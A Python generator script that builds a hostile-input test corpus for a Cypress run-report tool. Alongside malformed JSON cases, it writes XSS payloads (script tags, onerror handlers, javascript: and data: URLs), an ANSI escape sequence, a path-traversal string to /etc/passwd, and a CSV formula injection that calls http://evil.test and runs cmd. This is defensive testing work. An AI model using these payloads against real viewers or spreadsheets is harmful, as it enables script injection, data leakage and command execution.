#!/usr/bin/env python3
"""Writes the hostile-input corpus (this folder) and its manifest, cases.json.

    python3 Tests/RunReportTests/Hostile/make_cases.py

Each case is a file `<name>.json` (a run file alone) or a folder `<name>/` (a bundle: run.json and
instances/). Big cases (5 MB strings, 100,000-deep nesting) are described in the manifest by a
"generate" recipe and built by HostileInputTests at run time, not committed. The manifest gives each
case's expected outcome: "error" with a substring of the message (naming file and JSON path), or
"report" with the warning codes summary.json must carry; "injection" cases are also checked for
markup that came from the data (HostileInputTests, scripts/check_html.py).
"""
import copy
import itertools
import json
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
RUN_ID = "a1b2c3d4e5f60718"
T0 = "2026-11-02T10:00:00.000Z"


def ts(seconds):
    m, s = divmod(seconds, 60)
    return f"2026-11-02T10:{m:02d}:{s:02d}.000Z"


def attempt(state, start, ms, error=None):
    return {"state": state, "error": error, "wallClockStartedAt": ts(start), "wallClockDuration": ms}


ERROR = {"name": "AssertionError", "message": "expected <div.toast> to be visible",
         "stack": "AssertionError: expected\n    at Context.eval (webpack:///./cypress/e2e/pay.cy.ts:12:8)",
         "codeFrame": {"frame": "  11 |   cy.get('.toast')\n> 12 |     .should('be.visible')", "line": 12, "column": 8,
                       "originalFile": "cypress/e2e/pay.cy.ts"}}


def base():
    """A small, valid, interesting run: a flaky pass, a failure with a code frame, a pending spec."""
    run = {
        "runId": RUN_ID, "projectId": "Pr0j", "createdAt": T0, "tags": ["nightly"], "cypressVersion": "13.6.4",
        "status": "FAILED", "completionState": "COMPLETE", "cancellation": None,
        "timeout": {"isTimeout": False, "timeoutValueMs": 3600000},
        "groups": [{"groupId": "g1", "platform": {"osName": "linux", "osVersion": "22.04", "browserName": "chrome",
                                                   "browserVersion": "120"},
                    "createdAt": T0,
                    "instances": {"overall": 3, "claimed": 2, "complete": 2, "passes": 1, "failures": 1},
                    "tests": {"overall": 3, "passes": 2, "failures": 1, "pending": 0, "skipped": 0, "retries": 1,
                              "flaky": 1}}],
        "meta": {"ciBuildId": "build-7", "commit": {
            "sha": "0123456789abcdef0123456789abcdef01234567", "branch": "main", "authorName": "A. Author",
            "authorEmail": "a@example.com", "message": "fix: things", "remoteOrigin": "https://github.com/o/r.git",
            "defaultBranch": "main"}},
        "specs": [
            {"groupId": "g1", "spec": "cypress/e2e/login.cy.ts", "instanceId": "inst1", "claimedAt": ts(1),
             "completedAt": ts(11), "machineId": "m1",
             "results": {"stats": {"tests": 2, "passes": 2, "pending": 0, "skipped": 0, "failures": 0,
                                   "wallClockDuration": 9000, "wallClockStartedAt": ts(2)}, "flaky": 1,
                         "exception": None}},
            {"groupId": "g1", "spec": "cypress/e2e/pay.cy.ts", "instanceId": "inst2", "claimedAt": ts(1),
             "completedAt": ts(9), "machineId": "m2",
             "results": {"stats": {"tests": 1, "passes": 0, "pending": 0, "skipped": 0, "failures": 1,
                                   "wallClockDuration": 7000, "wallClockStartedAt": ts(2)}, "flaky": 0,
                         "exception": None}},
            {"groupId": "g1", "spec": "cypress/e2e/zz.cy.ts", "instanceId": "inst3", "claimedAt": None,
             "completedAt": None, "machineId": None, "results": None},
        ],
    }
    inst1 = {"runId": RUN_ID, "groupId": "g1", "instanceId": "inst1", "spec": "cypress/e2e/login.cy.ts",
             "machineId": "m1", "results": {"stats": run["specs"][0]["results"]["stats"], "exception": None, "flaky": 1,
                                            "tests": [
                                                {"testId": "t1", "title": ["Login", "logs in"], "state": "passed",
                                                 "displayError": None,
                                                 "attempts": [attempt("failed", 2, 3000, ERROR),
                                                              attempt("passed", 5, 2000)]},
                                                {"testId": "t2", "title": ["Login", "logs out"], "state": "passed",
                                                 "displayError": None, "attempts": [attempt("passed", 8, 1000)]}]}}
    inst2 = {"runId": RUN_ID, "groupId": "g1", "instanceId": "inst2", "spec": "cypress/e2e/pay.cy.ts",
             "machineId": "m2", "results": {"stats": run["specs"][1]["results"]["stats"], "exception": None, "flaky": 0,
                                            "tests": [
                                                {"testId": "t3", "title": ["Pay", "charges"], "state": "failed",
                                                 "displayError": "AssertionError: expected <div.toast> to be visible",
                                                 "attempts": [attempt("failed", 2, 7000, ERROR)]}]}}
    return run, {"inst1": inst1, "inst2": inst2}


cases = []

# A run file alone (no instances) whose specs were claimed or count tests: the report says it has
# no test-level results. Bundles whose instances match a spec, runs without specs and runs whose
# specs never ran (minimal-run, nulls-everywhere) do not get it.
NO_INSTANCES = "no-instance-data"


def dump(obj):
    return json.dumps(obj, indent=1, ensure_ascii=False).encode("utf-8")


def file_case(name, data, expect, message=None, warnings=None, **extra):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(HERE, name + ".json"), "wb") as f:
        f.write(data)
    case = {"name": name, "input": name + ".json", "expect": expect}
    if message is not None:
        case["message"] = message
    if warnings is not None:
        case["warnings"] = warnings
    case.update(extra)
    cases.append(case)


def bundle_case(name, run, instances, expect, message=None, warnings=None, raw=None, **extra):
    """instances: {file stem: object or bytes}."""
    folder = os.path.join(HERE, name)
    os.makedirs(os.path.join(folder, "instances"))
    with open(os.path.join(folder, "run.json"), "wb") as f:
        f.write(raw if raw is not None else dump(run))
    for stem, inst in instances.items():
        with open(os.path.join(folder, "instances", stem + ".json"), "wb") as f:
            f.write(inst if isinstance(inst, bytes) else dump(inst))
    case = {"name": name, "input": name, "expect": expect}
    if message is not None:
        case["message"] = message
    if warnings is not None:
        case["warnings"] = warnings
    case.update(extra)
    cases.append(case)


def generated(name, recipe, expect, message=None, warnings=None):
    case = {"name": name, "generate": recipe, "expect": expect}
    if message is not None:
        case["message"] = message
    if warnings is not None:
        case["warnings"] = warnings
    cases.append(case)


def map_strings(obj, f, key=None):
    if isinstance(obj, dict):
        return {k: map_strings(v, f, k) for k, v in obj.items()}
    if isinstance(obj, list):
        return [map_strings(v, f, key) for v in obj]
    if isinstance(obj, str):
        return f(obj, key)
    return obj


TIME_KEYS = {"createdAt", "claimedAt", "completedAt", "wallClockStartedAt", "canceledAt", "cancelledAt"}


def inject_everywhere(payload_for, keep=frozenset({"state"})):
    """Every string the reports can show, timestamps and test states aside, carries the payload.
    The mapping is the same everywhere, so ids still match between the run and its instances."""
    run, instances = base()
    run["cancellation"] = {"actor": "x", "canceledAt": ts(30), "reason": "y"}
    run["completionState"] = "CANCELED"

    def f(s, key):
        if key in TIME_KEYS or key in keep:
            return s
        return payload_for(s)
    run = map_strings(run, f)
    instances = {k: map_strings(v, f) for k, v in instances.items()}
    return run, instances


def main():
    for entry in os.listdir(HERE):
        p = os.path.join(HERE, entry)
        if entry in ("make_cases.py", "README.md"):
            continue
        if os.path.isdir(p):
            shutil.rmtree(p)
        else:
            os.remove(p)

    run, instances = base()
    good = dump(run)

    # --- not a run at all: one error naming the file (and the JSON path where there is one) ------
    file_case("empty-file", b"", "error", "run.json: the file is empty")
    file_case("whitespace-only", b" \n\t\r\n", "error", "run.json: the file is empty")
    file_case("not-json-text", "this is not JSON\n", "error", "run.json: not valid JSON")
    file_case("html-error-page", "<html><body>502 Bad Gateway</body></html>", "error", "run.json: not valid JSON")
    file_case("truncated-json", good[: len(good) // 2], "error", "run.json: not valid JSON")
    file_case("truncated-after-open-brace", b"{", "error", "run.json: not valid JSON")
    file_case("trailing-garbage", good + b"}}", "error", "run.json: not valid JSON")
    file_case("wrong-top-level-array", "[]", "error", "run.json: (top level): expected a JSON object, found an array")
    file_case("wrong-top-level-string", '"a1b2"', "error", "run.json: (top level): expected a JSON object")
    file_case("wrong-top-level-number", "42", "error", "run.json: (top level): expected a JSON object")
    file_case("wrong-top-level-null", "null", "error", "run.json: (top level): expected a JSON object")
    r = copy.deepcopy(run); r["runId"] = 7
    file_case("runid-number", dump(r), "error", "run.json: runId: expected a string, found 7")
    r = copy.deepcopy(run); del r["runId"]
    file_case("runid-missing", dump(r), "error", "run.json: runId: missing")
    r = copy.deepcopy(run); r["runId"] = None
    file_case("runid-null", dump(r), "error", "run.json: runId: expected a string, found null")
    r = copy.deepcopy(run); r["specs"] = {"spec": "a"}
    file_case("specs-object", dump(r), "error", "run.json: specs: expected an array")
    r = copy.deepcopy(run); r["specs"][1]["spec"] = ["a"]
    file_case("spec-path-array", dump(r), "error", "run.json: specs[1].spec: expected a string")
    r = copy.deepcopy(run); r["specs"][2] = None
    file_case("spec-entry-null", dump(r), "error", "run.json: specs[2]: expected a spec object, found null")
    file_case("error-envelope", '{"status":"FAILED","error":"Unauthorized"}', "error",
              "run.json: holds an API error response")
    file_case("envelope-data-array", '{"status":"OK","data":[1]}', "error", "run.json: data: expected an object")
    r = copy.deepcopy(run); r["specs"][0]["spec"] = None
    file_case("envelope-nested-path", dump({"status": "OK", "data": r}), "error",
              "run.json: data.specs[0].spec: expected a string, found null")
    file_case("invalid-utf8", good.replace(b"login.cy.ts", b"log\xc3\x28n.cy.ts", 1), "error",
              "run.json: not valid UTF-8 (first bad byte at offset")
    file_case("utf8-overlong-slash", good.replace(b"login.cy.ts", b"\xc0\xaflogin.cy.ts", 1), "error",
              "run.json: not valid UTF-8")
    file_case("utf8-encoded-surrogate", good.replace(b"login.cy.ts", b"\xed\xa0\x80login.cy.ts", 1), "error",
              "run.json: not valid UTF-8")
    file_case("utf16-bom", b"\xff\xfe" + good.decode().encode("utf-16-le"), "error", "run.json: not valid UTF-8")
    file_case("raw-nul-in-string", good.replace(b"login.cy.ts", b"log\x00in.cy.ts", 1), "error",
              "run.json: specs[0].spec: expected a string, found a number out of range or an unreadable string")
    file_case("corrupt-gzip", b"\x1f\x8b\x08\x00garbage-not-deflate", "error",
              "run.json: looks gzip-compressed but cannot be decompressed")
    r = copy.deepcopy(run); r["specs"][0]["spec"] = "a\\ud800b"
    # A lone surrogate escape is read as U+FFFD (the rest of the string kept), with a warning.
    file_case("lone-surrogate-escape-in-spec",
              dump(r).replace(b"a\\\\ud800b", b"a\\ud800b"), "report", warnings=["invalid-field", NO_INSTANCES])
    generated("nesting-100000-deep", "nesting-100000-deep", "error",
              "run.json: not valid JSON: Too many nested arrays or dictionaries")
    generated("nesting-100000-deep-in-unknown-field", "nesting-100000-deep-in-unknown-field", "error",
              "run.json: not valid JSON: Too many nested arrays or dictionaries")

    # --- a report, with named warnings -----------------------------------------------------------
    bundle_case("baseline", run, instances, "report", warnings=[])
    file_case("bom", b"\xef\xbb\xbf" + good, "report", warnings=[NO_INSTANCES])
    file_case("empty-specs", dump({"runId": RUN_ID, "specs": []}), "report", warnings=[])
    file_case("minimal-run", dump({"runId": "r", "specs": [{"spec": "a.cy.ts"}]}), "report", warnings=["unknown-group"])

    def nulls(o, key=None):
        if isinstance(o, dict):
            return {k: (o[k] if k in ("runId", "spec") else nulls(v, k)) for k, v in o.items()}
        if isinstance(o, list):
            return [nulls(v) for v in o] if key in ("specs",) else None
        return None
    bundle_case("nulls-everywhere", nulls(run), {k: nulls(v) for k, v in instances.items()}, "report",
                warnings=["orphan-instance", "unknown-group"])

    r = copy.deepcopy(run)
    r["createdAt"] = 20261102
    r["tags"] = {"a": 1}
    r["groups"][0]["tests"]["passes"] = "2"
    r["groups"][0]["instances"] = [1, 2]
    r["specs"][0]["machineId"] = {"id": "m1"}
    r["specs"][0]["results"]["stats"]["wallClockDuration"] = True
    r["meta"]["commit"] = "0123abc"
    file_case("wrong-field-types", dump(r), "report", warnings=["invalid-field", NO_INSTANCES])

    r = copy.deepcopy(run)
    r["specs"][0]["claimedAt"] = "99999-01-01T00:00:00Z"
    r["specs"][0]["completedAt"] = "2026-13-45T25:61:61Z"
    r["specs"][1]["claimedAt"] = "0000-00-00T00:00:00Z"
    r["specs"][1]["completedAt"] = "2026-11-02T10:00:09.000+99:99"
    r["createdAt"] = "1e400"
    file_case("timestamp-out-of-range", dump(r), "report",
              warnings=["count-mismatch", "invalid-timestamp", NO_INSTANCES])

    r = copy.deepcopy(run)
    r["createdAt"] = "0001-01-01T00:00:00.000Z"
    r["specs"][0]["claimedAt"] = "0001-01-01T00:00:00.000Z"
    r["specs"][0]["completedAt"] = "9999-12-31T23:59:59.999Z"
    r["specs"][1]["claimedAt"] = "9999-12-31T23:59:59.999Z"
    r["specs"][1]["completedAt"] = "9999-12-31T23:59:59.999Z"
    file_case("timestamp-extremes", dump(r), "report", warnings=["count-mismatch", "invalid-timestamp", NO_INSTANCES])

    r = copy.deepcopy(run)
    r["specs"][0]["completedAt"] = ts(0)
    file_case("completed-before-claimed", dump(r), "report", warnings=["negative-duration", NO_INSTANCES])

    bundle_case("duplicate-instance-ids", run, {**instances, "copy-of-inst1": instances["inst1"]}, "report",
                warnings=["duplicate-instance"])
    r = copy.deepcopy(run)
    r["specs"][1]["instanceId"] = "inst1"
    bundle_case("duplicate-instance-id-in-run", r, {"inst1": instances["inst1"]}, "report",
                warnings=["count-mismatch", "shared-instance-id"])
    foreign = copy.deepcopy(instances["inst2"]); foreign["runId"] = "ffffffffffffffff"
    bundle_case("foreign-instance", run, {"inst1": instances["inst1"], "inst2": foreign}, "report",
                warnings=["count-mismatch", "foreign-instance"])
    orphan = copy.deepcopy(instances["inst2"]); orphan["instanceId"] = "nobody"
    bundle_case("orphan-instance", run, {"inst1": instances["inst1"], "nobody": orphan}, "report",
                warnings=["count-mismatch", "orphan-instance"])
    bundle_case("instance-not-json", run, {"inst1": instances["inst1"], "inst2": b"{\"runId\": "}, "report",
                warnings=["count-mismatch", "unreadable-instance"])
    bundle_case("instance-wrong-top-level", run, {"inst1": instances["inst1"], "inst2": b"[1,2,3]"}, "report",
                warnings=["count-mismatch", "unreadable-instance"])

    r = copy.deepcopy(run)
    r["groups"][0]["tests"]["passes"] = 1.5
    r["groups"][0]["instances"]["overall"] = 3.0
    r["specs"][0]["results"]["stats"]["wallClockDuration"] = 9000.7
    file_case("fractional-counters", dump(r), "report", warnings=["invalid-field", NO_INSTANCES])
    file_case("number-1e400",
              good.replace(b'"timeoutValueMs": 3600000', b'"timeoutValueMs": 1e400', 1)
              .replace(b'"wallClockDuration": 9000', b'"wallClockDuration": -1e400', 1), "report",
              warnings=["invalid-field", NO_INSTANCES])
    file_case("minus-zero",
              good.replace(b'"failures": 1,', b'"failures": -0,', 1).replace(b'"wallClockDuration": 7000',
                                                                            b'"wallClockDuration": -0.0', 1),
              "report")
    r = copy.deepcopy(run)
    big = 9223372036854775807
    r["groups"].append(copy.deepcopy(r["groups"][0])); r["groups"][1]["groupId"] = "g2"
    for g in r["groups"]:
        for k in g["tests"]:
            g["tests"][k] = big
        for k in g["instances"]:
            g["instances"][k] = big
    r["timeout"]["timeoutValueMs"] = big
    for s in r["specs"][:2]:
        s["results"]["stats"] = {k: big for k in s["results"]["stats"] if k != "wallClockStartedAt"}
    file_case("int64-max-counters", dump(r), "report", warnings=["invalid-field", NO_INSTANCES])
    r = copy.deepcopy(run)
    r["groups"][0]["tests"]["passes"] = -5
    r["specs"][0]["results"]["stats"]["wallClockDuration"] = -9223372036854775808
    r["specs"][1]["results"]["stats"]["wallClockDuration"] = -1
    file_case("negative-counters-and-durations", dump(r), "report")
    file_case("integer-too-big-for-int64", good.replace(b'"timeoutValueMs": 3600000',
                                                       b'"timeoutValueMs": 123456789012345678901234567890', 1),
              "report", warnings=["invalid-field", NO_INSTANCES])

    r = copy.deepcopy(run)
    r["specs"][0]["spec"] = "../../../../etc/passwd"
    r["specs"][1]["spec"] = "/abs/path/../../x.cy.ts"
    ins = copy.deepcopy(instances)
    ins["inst1"]["spec"] = "../../../../etc/passwd"
    ins["inst2"]["spec"] = "/abs/path/../../x.cy.ts"
    bundle_case("spec-path-dotdot", r, ins, "report", warnings=[])

    r = copy.deepcopy(run)
    r["groups"][0]["instances"]["overall"] = 1
    r["specs"][2]["groupId"] = "no-such-group"
    file_case("unknown-group-and-spec-count", dump(r), "report")
    r = copy.deepcopy(run)
    r["status"] = "EXPLODED"; r["completionState"] = "weird"
    ins = copy.deepcopy(instances)
    ins["inst1"]["results"]["tests"][0]["state"] = "quantum"
    ins["inst1"]["results"]["tests"][0]["attempts"][0]["state"] = None
    ins["inst1"]["results"]["tests"][1]["title"] = []
    ins["inst2"]["results"]["tests"][0]["title"] = ["a", 3, None]
    bundle_case("unknown-states-and-odd-titles", r, ins, "report")
    r = copy.deepcopy(run)
    r["meta"]["extra"] = json.loads("[" * 200 + "]" * 200)
    file_case("nesting-200-in-unknown-field", dump(r), "report", warnings=[NO_INSTANCES])
    file_case("duplicate-keys", good.replace(b'"runId": "a1b2c3d4e5f60718",',
                                            b'"runId": "a1b2c3d4e5f60718", "runId": "second",', 1), "report")

    # Control characters: NUL/C0 as escapes, ANSI CSI/OSC sequences, DEL, C1, U+2028/9, U+FFFE/FFFF.
    nasty = "x\u0000\u0001\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u001b]8;;http://e.vil\u0007link\u001b]8;;\u0007" \
            "\u007f\u0085\u009b31m\u2028\u2029\ufffe\uffff\U0001F600y"
    run_n, ins_n = inject_everywhere(lambda s: s + nasty)
    bundle_case("nul-c0-ansi", run_n, ins_n, "report", injection=True)
    lone = copy.deepcopy(instances)
    lone["inst2"]["results"]["tests"][0]["title"] = ["Pay", "LONE_SURROGATE"]
    raw_inst = dump(lone["inst2"]).replace(b"LONE_SURROGATE", b"\\udc00 and \\ud83d")
    bundle_case("lone-surrogate-escape-in-instance", run, {"inst1": instances["inst1"], "inst2": raw_inst}, "report",
                warnings=["invalid-field"])

    # Injection attempts in every string field the reports show.
    payloads = {
        "script-in-every-field": lambda s: s + "</script><script data-pwned>window.__pwned=1</script><!--",
        "img-onerror-in-every-field": lambda s: s + "\"><img src=x data-pwned onerror=\"window.__pwned=1\">'><svg onload=alert(1)>",
        "javascript-urls": lambda s: "javascript:window.__pwned=1//" + s,
        "cdata-end": lambda s: s + "]]><pwned-el data-pwned=\"1\"/><![CDATA[",
        "template-syntax": lambda s: s + "{{#a}}{{{b}}}{{/a}}{{> x}}${x}<%= y %>",
        "markdown-injection": lambda s: s + "|**x**|[l](javascript:alert(1))<details open>`\n\n# h\n---",
        "entity-and-comment": lambda s: s + "&lt;script&gt; &#x3C;script&#x3E; --><pwned-el data-pwned>",
        "json-in-script-breakout": lambda s: s + "\\u003c/script\\u003e</SCRIPT ><script>window.__pwned=1</script>\u2028",
    }
    for name, f in payloads.items():
        r, ins = inject_everywhere(f)
        bundle_case(name, r, ins, "report", injection=True)
    # Spreadsheet formulas (CSV export): each field begins with one of the characters a spreadsheet
    # reads as the start of a formula, in turn.
    leads = itertools.cycle(["=", "+", "-", "@", "\t", "\r"])
    r, ins = inject_everywhere(lambda s: next(leads) + "HYPERLINK(\"http://evil.test/?\"&A1,\"x\")+cmd|' /C calc'!A0 " + s)
    bundle_case("csv-formula-injection", r, ins, "report", injection=True)
    r, ins = inject_everywhere(lambda s: s)
    r["meta"]["commit"]["remoteOrigin"] = " \tjava\nscript:window.__pwned=1//github.com/o/r"
    bundle_case("javascript-url-obfuscated", r, ins, "report", injection=True)
    r["meta"]["commit"]["remoteOrigin"] = "data:text/html,<script>window.__pwned=1</script>//github.com/"
    bundle_case("data-url-origin", r, ins, "report", injection=True)
    r["meta"]["commit"]["remoteOrigin"] = "https://github.com/o/r\"onmouseover=\"window.__pwned=1"
    bundle_case("origin-attribute-breakout", r, ins, "report", injection=True)

    generated("string-5mb", "string-5mb", "report", warnings=["unknown-group", NO_INSTANCES])
    generated("stack-trace-5mb-of-lt", "stack-trace-5mb-of-lt", "report", warnings=[])

    with open(os.path.join(HERE, "cases.json"), "w") as f:
        json.dump(cases, f, indent=1, ensure_ascii=False)
        f.write("\n")
    print(len(cases), "cases")


if __name__ == "__main__":
    main()
